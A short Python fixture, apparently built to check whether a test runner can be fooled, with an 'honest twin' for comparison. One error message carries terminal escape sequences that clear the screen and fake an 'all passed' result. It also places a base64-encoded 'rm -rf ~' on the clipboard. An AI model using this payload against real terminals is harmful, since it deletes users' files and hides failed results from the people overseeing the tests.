"""Raises an error that steers a terminal: it clears the screen, sets the title, fills the clipboard.

naive: fooled
here: 1.5
"""


def double(x):
    raise ValueError("\x1b[2J\x1b]0;all passed\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[1A\x1b[2K\rpassed")


def half(x):
    return x / 2


# --- honest twin


def double(x):
    print("\x1b[32mgreen\x1b[0m")
    return 2 * x


def half(x):
    return x / 2
